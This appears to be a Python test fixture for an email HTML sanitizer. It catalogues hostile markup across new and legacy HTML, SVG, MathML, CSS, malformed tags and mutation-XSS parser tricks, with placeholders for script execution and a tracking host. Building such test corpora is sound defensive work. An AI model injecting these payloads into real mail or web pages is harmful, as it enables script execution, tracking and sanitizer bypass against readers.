"""More HTML as attackers write it: what browsers learned in the last years, what other mail programs leave in, and what hides
behind mail itself (charsets, conditional comments, VML). The words in braces are those of ``hostile_html``.
"""

NEWER_HTML = {
    "speculation rules": '<script type="speculationrules">{{"prefetch":[{{"urls":["{hit}/n1"],"eagerness":"immediate"}}],'
    '"prerender":[{{"urls":["{hit}/n1b"]}}]}}</script>',
    "import map": '<script type="importmap">{{"imports":{{"x":"{hit}/n2.js"}}}}</script><script type="module">import "x"'
    "</script>",
    "classic script for old browsers": '<script nomodule src="{hit}/n3.js"></script><script async defer src="{hit}/n3b.j'
    's"></script>',
    "script as data": '<script src="data:text/javascript,{run}"></script>',
    "attribution": '<img attributionsrc="{hit}/n4" src="cid:x"><a attributionsrc="{hit}/n4b" href="https://example.com">x</a>',
    "popover that opens": '<button popovertarget="p">x</button><div id="p" popover="auto" onbeforetoggle="{run}">x</div>',
    "command": '<button commandfor="d" command="show-modal">x</button><dialog id="d" oncommand="{run}" open>x</dialog>',
    "text that is found": '<div hidden="until-found" onbeforematch="{run}">x</div>',
    "select with anything in it": '<select><button><selectedcontent></selectedcontent></button><option><img src="{hit}/n5"'
    ' onerror="{run}"></option></select>',
    "select, stylable, broken out of": "<select><div><svg><style></select><img src=x:y onerror={run_unquoted}></style></"
    "svg></div>",
    "slots": '<div><template shadowrootmode="closed" shadowrootserializable><slot onslotchange="{run}"></slot></template'
    ">x</div>",
    "custom element": '<x-y is="x-z" oncopy="{run}" tabindex="1" autofocus onfocus="{run}">x</x-y>',
    "text that may be edited": '<div contenteditable autofocus onbeforeinput="{run}" onfocusin="{run}">x</div>',
    "key that runs": '<a accesskey="x" onclick="{run}" href="#">x</a><input type="hidden" accesskey="X" onclick="{run}">',
    "names that hide the page's own": '<img name="body"><form name="document"><a id="cookie"></a><img id="defaultView"'
    ' name="getElementById" src="cid:odoo"></form>',
    "fetch later": '<link rel="expect" href="#x" blocking="render"><link rel="compression-dictionary" href="{hit}/n6">'
    '<link rel="preconnect" href="{hit}/n6b"><link rel="dns-prefetch" href="{bare}/n6c"><link rel="pingback" href="{hit}/n6d">',
    "meta: anything by http-equiv": '<meta http-equiv="x-dns-prefetch-control" content="on"><meta http-equiv="refresh"'
    ' content="0.1,{hit}/n7"><meta http-equiv="default-style" content="x"><meta http-equiv="origin-trial" content="x">'
    '<meta http-equiv="delegate-ch" content="sec-ch-ua {hit}"><meta http-equiv="accept-ch" content="dpr">',
}
OLD_HTML = {
    "sound in the background": '<bgsound src="{hit}/v1"><layer src="{hit}/v1b"></layer><ilayer src="{hit}/v1c"></ilayer>',
    "XML island": '<xml id="i" src="{hit}/v2.xml"></xml><table datasrc="#i"><tr><td><span datafld="x" dataformatas="html'
    '"></span>'
    "</td></tr></table>",
    "isindex and keygen": '<isindex action="javascript:{run}" type="image" src="{hit}/v3"><keygen autofocus onfocus="{run}">',
    "frames after the body": '<p>x</p></body><frameset onload="{run}"><frame src="{hit}/v4"></frameset>',
    "noframes and noembed": '<noembed><img src="</noembed><img src=x:y onerror={run_unquoted}>"></noembed>'
    '<noframes><img title="</noframes><img src=x:y onerror={run_unquoted}>"></noframes>',
    "listing and plaintext": "<listing>&lt;img src=x:y onerror={run_unquoted}&gt;</listing><plaintext><img src={hit}/v5>",
    "VML": '<v:rect xmlns:v="urn:schemas-microsoft-com:vml" fill="true"><v:fill type="frame" src="{hit}/v6"/>'
    '<v:imagedata src="{hit}/v6b" o:href="{hit}/v6c"/><v:vmlframe src="{hit}/v6d"/></v:rect>',
    "VML in a comment for Outlook": '<!--[if gte vml 1]><v:background><v:fill src="{hit}/v7"/></v:background><![endif]-->'
    '<!--[if !mso]><!--><img src="x:y" onerror="{run}"><!--<![endif]-->',
    "behaviour by import": '<?import namespace="t" implementation="#default#time2"><t:set attributeName="innerHTML"'
    ' to="&lt;img src=x:y onerror={run_entities}&gt;"/>',
    "entity from elsewhere": '<!DOCTYPE html [<!ENTITY e SYSTEM "{hit}/v8">]><p>&e;</p><!DOCTYPE x SYSTEM "{hit}/v8b">',
    "script of another namespace": '<x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>{run}</h:script><h:img src="{hit}/v9"'
    ' onerror="{run}"/></x>',
    "body of a body": '<html><body bgcolor="red" onload="{run}" style="background:url({hit}/v10)"><body onfocus="{run}" '
    "tabindex=1"
    ' background="{hit}/v10b" style="background-image:url(&quot;{hit}/v10c&quot;)">x',
    "body whose colour is none": "<body text=\"red;background:url('{hit}/v11')\" bgcolor='\"><img src=x:y onerror={run_u"
    "nquoted}>'>x",
    "image map": '<img src="cid:x" usemap="#m" ismap><map name="m"><area href="javascript:{run}" coords="0,0,9,9"'
    ' onfocus="{run}" ping="{hit}/v12"></map>',
    "longdesc, cite and the like": '<img longdesc="{hit}/v13" src="cid:x"><q cite="{hit}/v13b">x</q><blockquote cite="{h'
    'it}/v13c">x'
    '</blockquote><del cite="{hit}/v13d">x</del><head profile="{hit}/v13e"></head><html manifest="{hit}/v13f">',
}
NEWER_SVG = {
    "SVG: animation that begins": '<svg><animate onbegin="{run}" attributeName="x" dur="1s"/><discard onbegin="{run}"/></svg>',
    "SVG: use of data": '<svg><use href="data:image/svg+xml,&lt;svg id=x xmlns=http://www.w3.org/2000/svg&gt;&lt;image'
    ' href={hit}/g1 /&gt;&lt;/svg&gt;#x"/></svg>',
    "SVG: path, pattern, gradient": '<svg><animateMotion><mpath href="{hit}/g2#a"/></animateMotion><pattern href="{hit}/'
    'g2b#a"/>'
    '<linearGradient xlink:href="{hit}/g2c#a"/><textPath href="{hit}/g2d#a">x</textPath></svg>',
    "SVG: painted from elsewhere": '<svg><rect fill="url({hit}/g3#a)" mask="url({hit}/g3b#a)" marker-start="url({hit}/g3c#a)"'
    ' cursor="url({hit}/g3d)" style="filter:url({hit}/g3e#a)" width="9" height="9"/></svg>',
    "SVG: HTML within that leads away": '<svg><foreignObject><body><meta http-equiv="refresh" content="0;url={hit}/g4">'
    '<base href="{hit}/"><form action="{hit}/g4b"><button>x</button></form></body></foreignObject></svg>',
    "SVG: handler and listener": '<svg xmlns:ev="http://www.w3.org/2001/xml-events"><handler ev:event="load" type="text/'
    'javascript">'
    '{run}</handler><script href="data:,{run}"/><listener event="load" handler="#y"/></svg>',
    "SVG: link to a script": '<svg><a xlink:href="javascript:{run}" href="javascript:{run}"><circle r="99"/></a></svg>',
    "SVG in an object": '<object type="image/svg+xml" data="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+">'
    "</object>"
    '<embed type="image/svg+xml" src="data:image/svg+xml,%3Csvg onload=%22alert(1)%22/%3E">',
    "MathML: everything is a link": '<math href="javascript:{run}"><mi xlink:href="{hit}/g5" href="javascript:{run}">x</'
    "mi></math>",
    "MathML: semantics": '<math><semantics><mi>x</mi><annotation-xml encoding="application/xhtml+xml"><img src="{hit}/g6"'
    ' onerror="{run}"/></annotation-xml></semantics></math>',
}
NEWER_CSS = {
    "style: cross-fade and reflection": '<p style="background-image:-webkit-cross-fade(url({hit}/c1),url({hit}/c1b),50%);'
    '-webkit-box-reflect:below 0 url({hit}/c1c);-webkit-mask-box-image:url({hit}/c1d)">x</p>',
    "style: shapes and paths": '<p style="float:left;shape-outside:url({hit}/c2);offset-path:url({hit}/c2b#a);'
    'clip-path:url({hit}/c2c#a)">x</p>',
    "style: image() and src()": "<p style=\"background:image('{hit}/c3');background-image:src('{hit}/c3b')\">x</p>",
    "style: attr() as an address": '<p title="{hit}/c4" style="background:attr(title type(&lt;url&gt;))">x</p>',
    "style: quotes that close early": "<p style='font-family:\"x&quot;;background:url({hit}/c5);\"'>x</p><p style=\"color:'\\"
    "';background:url({hit}/c5b)'\">x</p>",
    "style: escapes that are newlines": '<p style="color:red;\\000a background:\\75\\72\\6c({hit}/c6);backgr\\6f und:url'
    '({hit}/c6b)">x</p>',
    "style: functions of any name": '<p style="width:env(x,url({hit}/c7));color:var(--a,url({hit}/c7b));background:if(else:url('
    '{hit}/c7c))">x</p>',
    "style: braces": '<p style="color:red}}*{{background:url({hit}/c8)}}">x</p><p style="{{}};background:url({hit}/c8b)">x</p>',
    "style: very long": '<p style="' + "color:red;" * 900 + 'background:url({hit}/c9)">x</p>',
    "style: leaves its place": '<a href="{hit}/c10" style="display:block;position:absolute;top:-9999px;left:-9999px;widt'
    "h:99999px;"
    'height:99999px;margin:-5000px;z-index:2147483647;transform:scale(99);inset:0;opacity:0">x</a>',
    "style sheet: layers and conditions": "<style>@layer a{{@import url({hit}/c11);}}@import '{hit}/c11b' layer(x) suppo"
    "rts(display:block);"
    "@supports(display:block){{*{{background:url({hit}/c11c)}}}}@container(width>0){{*{{background:url({hit}/c11d)}}}}</style>",
    "style sheet: registered properties": "<style>@property --u{{syntax:'<url>';inherits:true;initial-value:url({hit}/c12)}}"
    "*{{background:var(--u)}}</style>",
    "style sheet: cursors, counters, content": "<style>*{{cursor:url({hit}/c13),auto}}p::before{{content:url({hit}/c13b)}}"
    "@counter-style x{{system:cyclic;symbols:url({hit}/c13c)}}li{{list-style:x}}</style><p>x</p><li>y",
    "style sheet: text read by a font": "<style>@font-face{{font-family:l;src:url({hit}/c14);unicode-range:U+41}}*{{font"
    "-family:l}}</style>A",
    "style sheet: as data": '<link rel="stylesheet" href="data:text/css,@import%20url({hit}/c15);*%7Bbackground:url({hi'
    't}/c15b)%7D">',
    "style sheet: never closed": "<style>*{{background:url({hit}/c16)}}",
    "style sheet: in Outlook's comment": "<style><!-- *{{background:url({hit}/c17)}} --></style><!--[if mso]><style>*{{b"
    "ackground:url("
    "{hit}/c17b)}}</style><![endif]-->",
}
BROKEN = {
    "attributes without a blank": '<img src="x:y"onerror="{run}"><a href="https://example.com""onmouseover="{run}">x</a>',
    "blanks of other kinds": "<img\x0csrc=x:y\x0conerror={run_unquoted}><img/\x0bsrc=x:y/\x0bonerror={run_unquoted}>",
    "tag that never ends": '<img src="x:y" onerror="{run}" title="',
    "tag within a tag": '<<img src="x:y" onerror="{run}"><b <img src={hit}/b1 onerror="{run}">x</b>',
    "end tag with attributes": '</p onclick="{run}" style="background:url({hit}/b2)"></br onload="{run}"></img src={hit}/b2b>',
    "comments that end oddly": '<!--> <img src="{hit}/b3" onerror="{run}"> --><!---><img src="{hit}/b3b"><!-- --!><img s'
    'rc="{hit}/b3c">'
    '<!- ><img src="{hit}/b3d"><! --><img src="{hit}/b3e"><!--x--!x--><img src="{hit}/b3f">',
    "processing instructions": '<?x ><img src="{hit}/b4" onerror="{run}"> ?><?php <script>{run}</script> ?>',
    "CDATA in HTML": '<![CDATA[<img src="{hit}/b5">]]><![x[<img src="{hit}/b5b" onerror="{run}">]]>',
    "entities without an end": '<a href="javascript&colon;{run}">x</a><a href="java&Tab;script&NewLine;:{run}">y</a>'
    '<a href=&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)>z</a><a href="\x01javascript:{run}">v</a>',
    "letters that look like others": '<ſcript>{run}</ſcript><ımg src="{hit}/b6" onerror="{run}"><img ſrc="{hit}/b6b">',
    "NUL everywhere": '<im\0g src="{hit}/b7"><img s\0rc="{hit}/b7b" oner\0ror="{run}"><a href="java\0script:{run}">x</a>',
    "surrogates and specials": '<p title="&#xD800;&#xFFFE;&#0;&#x80;">x</p><img src="&#xD83D;{hit}/b8">\ufeff<script>{ru'
    "n}</script>",
    "ISO-2022-JP in the middle": '<meta charset="iso-2022-jp"><img alt="\x1b$@"><img alt="\x1b(B"><a title="\x1b$B">\x1b(B"'
    "><img src=x:y onerror={run_unquoted}>",
    "UTF-16 within": '<meta charset="utf-16le"><\0s\0c\0r\0i\0p\0t\0>\0a\0l\0e\0r\0t\0(\0)\0<\0/\0s\0c\0r\0i\0p\0t\0>',
    "picture that is a page": '<img src="data:text/html,<script>{run}</script>"><img src="data:image/png,&lt;script&gt;">'
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+">',
    "picture whose address runs on": '<img src="https://{host}/b9"onerror="{run}"><img src=\'{hit}/b9b"><script>{run}</s'
    "cript>'>",
    "content-ID that closes the quote": "<img src='cid:x\"><script>{run}</script>'><img src=\"cid:&quot;onerror=&quot;{r"
    'un_double}">',
    "addresses of other programs": '<a href="ms-msdt:/id x">a</a><a href="search-ms:query=x">b</a><a href="intent:#Inten'
    't;end">c</a>'
    '<a href="view-source:{hit}">d</a><a href="feed:javascript:{run}">e</a><a href="about:blank">f</a><a href="smb://{ho'
    'st}/x">g</a>'
    '<img src="smb://{host}/y"><img src="\\\\{host}\\z"><img src="ftp://{host}/w"><img src="blob:{hit}">',
}
NEWER_MUTATIONS = {
    "mutation: annotation in SVG": '<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x:y'
    ' onerror={run_unquoted}>">',
    "mutation: path in MathML": '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img src=x:y'
    ' onerror={run_unquoted}>">',
    "mutation: headings and links": '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src=x:y'
    ' onerror={run_unquoted}>"></style></h1>',
    "mutation: caption": '<table><caption><svg><title><table><caption></caption></table><style><a id="</style><img src=x:y'
    ' onerror={run_unquoted}>"></style></title></svg></caption></table>',
    "mutation: foreign object and table": '<svg><a><foreignobject><a><table><a></table><style><!--</style></svg><a id="-->'
    '<img src=x:y onerror={run_unquoted}>">',
    "mutation: text area": "<svg><desc><textarea><style></textarea><img src=x:y onerror={run_unquoted}></style></desc></svg>",
    "mutation: deep": "<div>" * 254 + "<svg>" * 3 + "<style><a title='</style><img src=x:y onerror={run_unquoted}>'>",
    "mutation: deep, formatting": "<b>"
    * 300
    + "<math><mi><table><mglyph><style><!--</style><img title='--><img src=x:y"
    " onerror={run_unquoted}>'>",
    "mutation: nested forms": "<form id=a><div></form><form id=b><input name=parentNode><svg><style><p title='</style>"
    "<img src=x:y onerror={run_unquoted}>'>",
    "mutation: pre": "<pre>\n\n<img src=x:y onerror={run_unquoted}></pre><textarea>\n</textarea><listing>\n<svg onload"
    "={run_unquoted}>",
}
# Only long; what is to be loaded stands at the end.
LONG = {
    "long: formatting that multiplies": "<b><i><font color=red>" * 700 + "<p>x</p>" * 40 + '<img src="{hit}/l1">',
    "long: quotes in quotes": "<p>a</p>" + "<blockquote>" * 3000 + '<img src="{hit}/l2">',
    "long: pictures without an end": "<img " * 8000 + 'src="{hit}/l3">',
    "long: links": '<a href="https://example.com">www.example.org</a>' * 3000 + '<img src="{hit}/l4">',
    "long: one attribute": '<p title="' + "&amp;<>" * 30_000 + '" onclick="{run}">x</p><img src="{hit}/l5">',
    "long: headers of quoted mails": "<div>From: a Sent: " * 1200 + '<img src="{hit}/l6">',
}
NEWER = {
    **NEWER_HTML, **OLD_HTML, **NEWER_SVG, **NEWER_CSS, **BROKEN, **NEWER_MUTATIONS, **LONG,
}  # fmt: skip
